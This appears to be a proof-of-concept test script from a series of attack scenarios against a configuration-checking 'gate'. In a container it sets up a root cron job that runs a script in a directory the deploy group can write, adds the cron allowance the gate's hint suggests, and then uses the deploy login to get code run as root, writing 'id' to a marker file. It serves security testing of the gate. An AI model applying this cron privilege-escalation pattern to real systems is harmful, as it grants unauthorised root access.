#!/bin/sh
# The gate's own hint allows a root job that runs what the deploy login may change: the admin's cron line runs the
# deploy team's script (/srv/tools 2775 root:deployer, attack8/9's precondition); the gate fails with "allow it:
# allow_cron = [...]"; the admin writes that line; the gate passes; the deploy login's script runs as root.
# Usage: attack10/atk_allowed_cron.sh /tmp/atk10   (BASE=1: the code at main 13ee532)
set -eu
W=${1:-/tmp/atk10}; CT=$(cat $W/ct)
docker exec $CT sh -c "install -d -m 2775 -o root -g deployer /srv/tools; rm -f /tmp/root-ran
printf '* * * * * root /srv/tools/report\n' > /etc/cron.d/ops-report"
echo "--- /etc/cron.d/ops-report:"; docker exec $CT cat /etc/cron.d/ops-report
echo "--- the gate (read-only, as admin), no allowance:"
$W/gate.sh 2>&1 | grep -E "^FAILED|passed|failed|^  - /etc/cron" | cut -c1-500 || true
sed -i '/^allow_cron/d' $W/targets.toml; sed -i '/^\[targets.ro\]/a allow_cron = ["/etc/cron.d/ops-report"]' $W/targets.toml
echo "--- the gate with the allowance its hint names:"
$W/gate.sh 2>&1 | grep -E "^FAILED|passed|failed|^  - /etc/cron" | cut -c1-500 || true
ssh -F $W/ssh_config deployer 'printf "#!/bin/sh\nid > /tmp/root-ran\n" > /srv/tools/report; chmod 775 /srv/tools/report'
sleep $((62 - $(date +%S | sed 's/^0//')))
echo "--- /tmp/root-ran:"; docker exec $CT sh -c 'cat /tmp/root-ran 2>&1'
[ -n "${KEEP:-}" ] || { docker exec $CT sh -c 'rm -rf /etc/cron.d/ops-report /srv/tools /tmp/root-ran'; sed -i '/^allow_cron/d' $W/targets.toml; }
